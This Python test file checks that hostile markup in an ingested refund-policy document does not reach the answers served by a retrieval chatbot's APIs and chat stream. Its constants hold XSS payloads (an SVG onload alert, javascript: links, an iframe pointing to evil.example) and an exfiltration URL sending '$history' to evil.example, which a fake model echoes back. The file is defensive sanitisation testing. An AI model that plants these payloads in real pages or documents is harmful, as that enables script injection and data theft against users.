"""Answer text is safe to render anywhere: a hostile document's markup never reaches an
answer, on any path.

The document goes through the real ingestion pipeline (as plain text, which keeps its
markup as written) and carries a script-running SVG, a javascript: link in HTML and in
Markdown, a stray </iframe> with an iframe behind it, and an exfiltration URL that the
ingestion scan flags. It is answered by the extractive answerer (the default, which
quotes passages) and by a model that echoes the markup, over /api/v1/answers (JSON and
SSE), /v1/chat/completions (JSON and streamed) and the chat's own stream (its pieces and
its final HTML). No `answer`, delta, sentence or HTML carries any of the payloads.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import httpx2
import openai
import pytest
import sseclient
from django.conf import settings as django_settings
from django.test import Client

from chat.models import Message
from chat.services.conversations import conversation_start
from ingest.services.pipeline import document_ingest
from kb.guard.passages import EXFILTRATION_LINK
from kb.models import Chunk, KnowledgeBase
from tests.factories import make_user, upload
from tests.support.api import api_client
from tests.support.fake_llm import Reply, Respond, fake_llm_routes
from tests.support.live_server import LiveServer, running_asgi_server
from tests.support.prompts import passage_number

pytestmark = pytest.mark.django_db(transaction=True)

SVG = "<svg onload=alert(document.domain)></svg>"
HTML_LINK = '<a href="javascript:alert(document.cookie)">refund form</a>'
MARKDOWN_LINK = "[the refund page](javascript:alert(2))"
IFRAME = "</iframe><iframe src=//evil.example/frame></iframe>"
EXFILTRATION = "https://evil.example/collect?data=$history"
HOSTILE = f"""Refund policy

Customers can ask for a refund within 45 days of purchase {SVG} by writing to the billing team.
Open the {HTML_LINK} or {MARKDOWN_LINK} to ask for a refund within 45 days of purchase.
Refund requests reach the billing team within 45 days{IFRAME} of purchase.
Refund status for the 45 days of purchase: {EXFILTRATION}
""".encode()
QUESTION = "How many days do customers have to ask for a refund?"
# What must not survive, in any form (as markup, or as text that was markup).
PAYLOADS = ("svg", "onload", "javascript", "iframe", "evil.example", "alert(", "<a ", "href")


def echoing_model(body: dict) -> Reply:
    """A model that repeats the passage's markup, cut into many stream deltas."""
    n = passage_number(body, "45 days")
    return Reply(
        f"Customers can ask for a refund within 45 days of purchase {SVG} by writing to the "
        f"billing team [{n}]. Open the {HTML_LINK} or {MARKDOWN_LINK} to ask for a refund "
        f"within 45 days of purchase [{n}]. Refund requests reach the billing team within 45 "
        f"days{IFRAME} of purchase [{n}]. Refund status: {EXFILTRATION} [{n}]",
        chunks=80,
    )


@pytest.fixture
def hostile_kb(kb) -> KnowledgeBase:
    document_ingest(document_id=upload(kb, "refund-policy.txt", HOSTILE).document.pk)
    return kb


@pytest.fixture(params=["extractive answerer", "echoing model"])
def answerer(request, settings) -> Iterator[str]:
    if request.param == "extractive answerer":
        settings.CAIRN_EXTRACTIVE_TOKEN_DELAY_MS = 0
        yield request.param
        return
    with fake_llm_routes(settings) as server:
        server.default = Respond(echoing_model)
        yield request.param


@pytest.fixture
def live() -> Iterator[LiveServer]:
    with running_asgi_server() as server:
        yield server


# --- the paths: each returns every text the client received --------------------------


def _key(kb: KnowledgeBase) -> dict[str, str]:
    return {"Authorization": f"Bearer {api_client(kb.account, ['answer'])[2]}"}


def _sentences(body: dict[str, Any]) -> list[str]:
    return [s["text"] for s in body["sentences"]]


def answers_json(kb: KnowledgeBase, live: LiveServer) -> list[str]:
    body = httpx2.post(
        f"{live.url}/api/v1/answers", json={"question": QUESTION}, headers=_key(kb), timeout=60
    ).json()
    return [body["answer"], *_sentences(body)]


def answers_sse(kb: KnowledgeBase, live: LiveServer) -> list[str]:
    with httpx2.stream(
        "POST", f"{live.url}/api/v1/answers", json={"question": QUESTION, "stream": True},
        headers=_key(kb), timeout=60,
    ) as response:  # fmt: skip
        events = [(e.event, json.loads(e.data))
                  for e in sseclient.SSEClient(response.iter_bytes()).events()]  # fmt: skip
    tokens = [data["text"] for name, data in events if name == "token"]
    done = events[-1][1]
    return [*tokens, done["answer"], *_sentences(done)]


def _sdk(kb: KnowledgeBase, live: LiveServer) -> openai.OpenAI:
    key = api_client(kb.account, ["answer"])[2]
    return openai.OpenAI(base_url=f"{live.url}/v1", api_key=key, max_retries=0, timeout=60)


def completions_json(kb: KnowledgeBase, live: LiveServer) -> list[str]:
    completion = _sdk(kb, live).chat.completions.create(
        model=kb.slug, messages=[{"role": "user", "content": QUESTION}]
    )
    extra = completion.model_extra or {}
    return [completion.choices[0].message.content or "", *_sentences(extra)]


def completions_stream(kb: KnowledgeBase, live: LiveServer) -> list[str]:
    chunks = list(
        _sdk(kb, live).chat.completions.create(
            model=kb.slug, messages=[{"role": "user", "content": QUESTION}], stream=True
        )
    )
    deltas = [c.choices[0].delta.content or "" for c in chunks if c.choices]
    (final,) = [c for c in chunks if c.choices and c.choices[0].finish_reason == "stop"]
    return [*deltas, *_sentences(final.model_extra or {})]


def chat_stream(kb: KnowledgeBase, live: LiveServer) -> list[str]:
    """The chat page's stream: each token event's HTML, then the final answer's text HTML."""
    staff: Any = make_user(staff=False, account=kb.account, role="staff")
    _, answer = conversation_start(user_id=staff.pk, knowledge_base=kb, text=QUESTION)
    browser = Client()
    browser.force_login(staff)
    cookie = django_settings.SESSION_COOKIE_NAME
    with (
        httpx2.Client(cookies={cookie: browser.cookies[cookie].value}, timeout=60) as client,
        client.stream("GET", f"{live.url}/chat/m/{answer.pk}/stream") as response,
    ):
        events = [(e.event, e.data) for e in sseclient.SSEClient(response.iter_bytes()).events()]
    tokens = [data for name, data in events if name == "token"]
    (answer_text,) = re.findall(r'<div class="answer-text">(.*?)</div>', events[-1][1], re.S)
    # Citation chips are Cairn's own links, to the passage in the document view.
    return [
        *tokens,
        re.sub(r'<a class="cite" href="/documents/[^"]*"[^>]*>\d+</a>', "", answer_text),
    ]


PATHS: dict[str, Callable[[KnowledgeBase, LiveServer], list[str]]] = {
    "/api/v1/answers JSON": answers_json,
    "/api/v1/answers SSE": answers_sse,
    "/v1/chat/completions JSON": completions_json,
    "/v1/chat/completions stream": completions_stream,
    "chat stream and final HTML": chat_stream,
}


@pytest.mark.parametrize("path", PATHS)
def test_no_payload_of_a_hostile_document_survives_on_any_answer_path(
    hostile_kb, answerer, live, path
) -> None:
    # Given a hostile document whose passage the ingestion scan flagged
    (chunk,) = Chunk.objects.filter(knowledge_base=hostile_kb)
    assert EXFILTRATION_LINK in chunk.safety_flags and SVG in chunk.text

    # When the question it answers is asked on this path
    received = PATHS[path](hostile_kb, live)

    # Then the answerer did read and repeat the markup, and the answer still stands...
    message = Message.objects.filter(role="assistant").get()
    assert message.status == "done", message.content
    assert any(payload in message.raw_content for payload in (SVG, HTML_LINK, IFRAME))
    assert "45 days" in message.content
    # ...but nothing the client received carries any of it
    for text in [*received, message.content]:
        found = [payload for payload in PAYLOADS if payload in text.lower()]
        assert not found, f"{found} in {text!r}"
        assert not re.search(r"<[A-Za-z/!?]", text) or path == "chat stream and final HTML"
